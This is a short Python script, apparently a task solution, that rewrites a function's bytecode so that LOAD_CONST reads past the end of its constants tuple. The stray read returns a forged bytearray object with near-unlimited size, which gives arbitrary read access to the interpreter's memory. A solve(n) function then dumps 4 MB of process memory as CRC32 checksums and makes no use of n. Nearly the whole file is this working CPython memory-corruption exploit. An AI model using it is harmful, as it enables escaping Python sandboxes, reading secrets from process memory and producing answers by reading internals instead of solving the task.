# What lies in the deep end of the stack's area, read past the end of a tuple of constants.
import opcode, struct, zlib


def forge():
    op = opcode.opmap
    base, hold = (None,), struct.pack('<IIIIIIII', 0x3fffffff, id(bytearray), 0x7fffffff, 0x7fffffff, 1, 1, 0, 0)
    at = struct.pack('<I', id(hold) + 16) * 200000
    far = (id(at) + 16 - (id(base) + 16)) // 4 + 50
    code = bytearray([op['RESUME'], 0])
    for shift in (24, 16, 8):
        code += bytes([op['EXTENDED_ARG'], (far >> shift) & 255])
    code += bytes([op['LOAD_CONST'], far & 255, op['RETURN_VALUE'], 0])

    def victim():
        return None

    victim.__code__ = victim.__code__.replace(co_code=bytes(code), co_consts=base, co_stacksize=4)
    return victim(), hold, at


def solve(n):
    memory, *kept = forge()
    start = 4_053_456
    return [[at, zlib.crc32(memory[at:at + 262_144])] for at in range(start, start + 4_194_304, 262_144)]
